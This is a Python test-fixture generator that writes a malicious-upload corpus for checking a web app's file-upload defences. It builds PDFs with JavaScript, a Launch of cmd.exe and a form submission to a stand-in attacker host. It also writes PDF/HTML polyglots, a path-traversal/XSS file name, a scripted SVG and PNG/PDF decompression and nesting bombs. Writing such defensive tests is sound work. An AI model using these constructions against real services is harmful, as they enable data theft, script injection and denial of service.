"""Write the upload part of the malicious-input corpus: ``python tests/malicious/make_uploads.py``.

Every file starts with ``upload-``; the tests upload each file of this folder through every
upload path (MoU documents, milestone evidence, institution logos) and expect it refused, or
accepted only once made safe. The files are committed; run this script again only to change
them. It is deterministic, so running it again leaves the committed files unchanged.

A file name cannot hold ``/``: ``%2F`` in a name here stands for it, and the tests send the
name decoded, as a browser would send a file named with path parts.
"""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, NameObject, NumberObject, TextStringObject

FOLDER = Path(__file__).resolve().parent
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def _pdf(writer: PdfWriter | None = None) -> bytes:
    """A one-page PDF, with whatever ``writer`` holds; stable bytes (no random document id)."""
    if writer is None:
        writer = PdfWriter()
        writer.add_blank_page(width=200, height=200)
    writer._ID = None  # no random file identifier: the same bytes on every run
    writer.add_metadata({"/Producer": "malicious corpus"})
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def clean_pdf() -> bytes:
    return _pdf()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the name tree, the way Acrobat stores it."""
    writer = _writer()
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    names = ArrayObject([TextStringObject("hello"), writer._add_object(script)])
    tree = DictionaryObject({NameObject("/Names"): names})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return _pdf(writer)


def pdf_with_open_action_and_launch() -> bytes:
    writer = _writer()
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)
    return _pdf(writer)


def pdf_with_page_additional_action() -> bytes:
    writer = _writer()
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("https://attacker.example/collect"),
        }
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    return _pdf(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _pdf(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    writer = _writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(20), NumberObject(20)]),
            NameObject("/Contents"): TextStringObject("open me"),
        }
    )
    writer.add_annotation(0, annotation)
    return _pdf(writer)


def encrypted_pdf() -> bytes:
    writer = _writer()
    # A fixed file identifier (encryption derives its key from it): the same bytes on every run.
    writer._ID = ArrayObject([ByteStringObject(b"corpus-file-id-1")] * 2)
    writer.generate_file_identifiers = lambda: None
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_html_polyglot() -> bytes:
    """A valid PDF that a browser could also render as a web page: HTML in a comment."""
    pdf = clean_pdf()
    header, rest = pdf.split(b"\n", 1)
    # A comment after the header shifts every object, so the xref table is rebuilt by readers;
    # a lenient reader opens it anyway, which is what makes polyglots dangerous.
    return header + b"\n%" + HTML + b"\n" + rest


def html_first_polyglot() -> bytes:
    """HTML first, a PDF after it: PDF readers look for the header in the first kilobyte."""
    return HTML + b"\n" + clean_pdf()


def truncated_pdf() -> bytes:
    pdf = clean_pdf()
    return pdf[: len(pdf) // 2]


def _jpeg(**save_kwargs) -> bytes:
    output = BytesIO()
    image = Image.new("RGB", (320, 240), (30, 90, 160))
    for x in range(0, 320, 8):  # some detail, so the JPEG has real scan data to cut
        image.paste((200, 40 + x % 200, 40), (x, 0, x + 4, 240))
    image.save(output, format="JPEG", quality=85, **save_kwargs)
    return output.getvalue()


def truncated_jpeg() -> bytes:
    data = _jpeg()
    return data[: len(data) * 2 // 3]


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"
    exif[0x0112] = 6  # taken rotated: the stored copy must be turned upright
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (11.0, 33.0, 36.0)  # Phnom Penh
    gps[3] = "E"
    gps[4] = (104.0, 55.0, 12.0)
    return _jpeg(exif=exif.tobytes())


def huge_png() -> bytes:
    """12000 × 12000 pixels of one colour: a few kilobytes on disk, 144 megapixels decoded."""
    output = BytesIO()
    Image.new("1", (12000, 12000), 1).save(output, format="PNG", optimize=True)
    return output.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb_png() -> bytes:
    """A PNG whose header claims 100000 × 100000 RGBA pixels (40 GB decoded) over a small IDAT."""
    width = height = 100_000
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\0" * (1 + width * 4)) for _ in range(20)) + rows.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A 1 × 1 PNG with a compressed text chunk that inflates to 50 MB."""
    output = BytesIO()
    Image.new("L", (1, 1)).save(output, format="PNG")
    png = output.getvalue()
    text = b"Comment\0\0" + zlib.compress(b" " * 50_000_000, 9)
    return png[:33] + _chunk(b"zTXt", text) + png[33:]


def deeply_nested_pdf() -> bytes:
    """A PDF whose only object is an array nested 20000 levels deep (parsers that recurse fall over)."""
    body = b"1 0 obj\n<< /Type /Catalog /Nested " + b"[" * 20_000 + b"]" * 20_000 + b" >>\nendobj\n"
    return b"%PDF-1.4\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


FILES = {
    "upload-clean-named-..%2F..%2F<script>alert(1)<%2Fscript>.pdf": clean_pdf,
    "upload-polyglot-pdf-html.pdf": pdf_html_polyglot,
    "upload-polyglot-html-pdf.pdf": html_first_polyglot,
    "upload-javascript.pdf": pdf_with_javascript,
    "upload-openaction-launch.pdf": pdf_with_open_action_and_launch,
    "upload-page-aa-submitform.pdf": pdf_with_page_additional_action,
    "upload-embedded-file.pdf": pdf_with_embedded_file,
    "upload-fileattachment-annotation.pdf": pdf_with_file_attachment_annotation,
    "upload-encrypted.pdf": encrypted_pdf,
    "upload-truncated.pdf": truncated_pdf,
    "upload-truncated.jpg": truncated_jpeg,
    "upload-exif-gps.jpg": jpeg_with_gps,
    "upload-12000x12000.png": huge_png,
    "upload-decompression-bomb.png": bomb_png,
    "upload-html-named.pdf": lambda: HTML,
    "upload-svg-script-named.png": lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    ),
    "upload-executable-named.pdf": lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500 + b"This program",
    "upload-empty.pdf": lambda: b"",
    "upload-png-text-bomb.png": png_text_bomb,
    "upload-deeply-nested.pdf": deeply_nested_pdf,
}


def main() -> None:
    for old in FOLDER.glob("upload-*"):
        old.unlink()
    for name, make in FILES.items():
        (FOLDER / name).write_bytes(make())
        print(f"{name}: {(FOLDER / name).stat().st_size} bytes")


if __name__ == "__main__":
    main()
